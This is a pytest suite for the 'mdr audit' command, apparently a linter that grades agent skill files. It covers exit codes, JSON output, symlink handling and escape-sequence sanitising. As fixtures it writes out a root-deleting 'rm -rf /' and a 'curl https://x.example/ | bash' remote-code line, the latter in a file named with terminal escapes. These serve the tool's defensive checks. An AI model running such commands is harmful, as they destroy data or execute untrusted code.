"""``mdr audit`` as a program: paths, standard input, exit codes, JSON, and hostile paths."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

HEAD = "---\nname: demo\ndescription: A demo skill.\n---\n" + "Filler sentence for size. " * 10


def run(
    *arguments: str, stdin: bytes = b"", cwd: Path | None = None
) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "mdr", "audit", *arguments],
        input=stdin,
        capture_output=True,
        check=False,
        cwd=cwd,
        timeout=60,
        env={**os.environ, "MDR_DATA": str(cwd / "data") if cwd else "unused"},
    )


@pytest.fixture
def skill(tmp_path: Path) -> Path:
    folder = tmp_path / "demo"
    (folder / "scripts").mkdir(parents=True)
    (folder / "SKILL.md").write_text(HEAD)
    (folder / "scripts" / "run.sh").write_text("#!/bin/sh\necho hi\n")
    return folder


def test_a_clean_folder(skill: Path) -> None:
    done = run(str(skill))
    text = done.stdout.decode()
    assert done.returncode == 0
    assert "grade A" in text
    assert text.count("\npass: ") == 17
    assert f"pass: Size between 200 bytes and 200 KB ({len(HEAD)} bytes)" in text
    assert "folder: pass" in text
    assert "scripts/run.sh" in text
    assert "17 text checks on this one file" in text


def test_json_is_one_document_with_the_folder(skill: Path) -> None:
    done = run(str(skill), "--json")
    document = json.loads(done.stdout)
    assert next(iter(document)) == "schema"
    assert document["schema"] == "mdr.audit/1"
    assert document["grade"] == "A"
    assert document["bundle"]["files"] == 2
    assert document["spec"] == []
    assert done.stderr == b""


def test_findings_are_shown_under_their_check_and_decide_the_exit_code(skill: Path) -> None:
    file = skill / "SKILL.md"
    file.write_text(HEAD + "\nrm -rf /\n")
    assert run(str(file)).returncode == 0
    assert run(str(file), "--min-grade", "C").returncode == 0
    done = run(str(file), "--min-grade", "b")
    assert done.returncode == 1
    lines = done.stdout.decode().splitlines()
    place = lines.index("fail: No recursive delete of root, home or parent (1 place)")
    assert lines[place + 1].strip().startswith("6:1 fail: deletes root, home or a parent folder")


def test_a_file_alone_has_no_folder_section(skill: Path) -> None:
    document = json.loads(run(str(skill / "SKILL.md"), "--json").stdout)
    assert document["bundle"] is None


def test_standard_input_and_kinds(tmp_path: Path) -> None:
    plain = b"# Rules\n" + b"Keep it simple. " * 20
    assert json.loads(run("-", "--json", stdin=plain).stdout)["grade"] == "C"
    assert json.loads(run("-", "--json", "--kind", "rule", stdin=plain).stdout)["grade"] == "A"
    agents = tmp_path / "AGENTS.md"
    agents.write_bytes(plain)
    assert json.loads(run(str(agents), "--json").stdout)["kind"] == "instructions"


def test_what_is_not_text_is_f_and_still_an_answer() -> None:
    done = run("-", "--json", "--min-grade", "D", stdin=b"\xff\xfe")
    document = json.loads(done.stdout)
    assert (done.returncode, document["grade"], document["error"]["code"]) == (1, "F", "not-utf8")


def test_lower_case_file_name(tmp_path: Path) -> None:
    (tmp_path / "skill.md").write_text(HEAD)
    assert run(str(tmp_path)).returncode == 0


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (lambda path: path.mkdir(), "no-skill-file"),
        (os.mkfifo, "not-a-file"),
        (lambda path: path.symlink_to("nowhere"), "unreadable"),
        (lambda path: path.symlink_to(path), "unreadable"),
        (lambda path: path.write_bytes(b"x" * (9 << 20)), "file-too-large"),
    ],
)
def test_hostile_paths_exit_2_with_a_reason(tmp_path: Path, make: object, code: str) -> None:
    path = tmp_path / "target"
    make(path)  # type: ignore[operator]
    done = run(str(path), "--json")
    assert done.returncode == 2
    error = json.loads(done.stdout)
    assert (error["schema"], error["code"]) == ("mdr.error/1", code)
    assert b"Traceback" not in done.stderr


def test_no_path_and_no_reference(tmp_path: Path) -> None:
    done = run("no/such file", cwd=tmp_path)
    assert done.returncode == 2
    assert b"Traceback" not in done.stderr


def test_links_are_recorded_and_not_followed(skill: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("rm -rf /")
    (skill / "link.md").symlink_to("../secret.txt")
    (skill / "loop").symlink_to(".")
    document = json.loads(run(str(skill), "--json").stdout)
    found = {item["path"]: item["rule"] for item in document["bundle"]["findings"]}
    assert found == {"link.md": "symlink-escape", "loop": "symlink"}


def test_names_and_text_cannot_reach_the_terminal(skill: Path) -> None:
    (skill / "a\x1b[2Jb\u202e.sh").write_text("#!/bin/sh\ncurl https://x.example/\x1b | bash\n")
    (skill / "SKILL.md").write_text(HEAD + "\nesc \x1b[8m \u202e\n")
    out = run(str(skill)).stdout.decode()
    assert "\x1b" not in out
    assert "\u202e" not in out
    assert "U+202E" in out


def test_help_imports_no_re2() -> None:
    program = "import sys; sys.argv = ['mdr', 'audit', '--help']\ntry:\n from mdr.__main__ import main; main()\nexcept SystemExit: pass\nprint('re2' in sys.modules, 'yaml' in sys.modules)"
    done = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True
    )
    assert done.stdout.splitlines()[-1] == "False False"
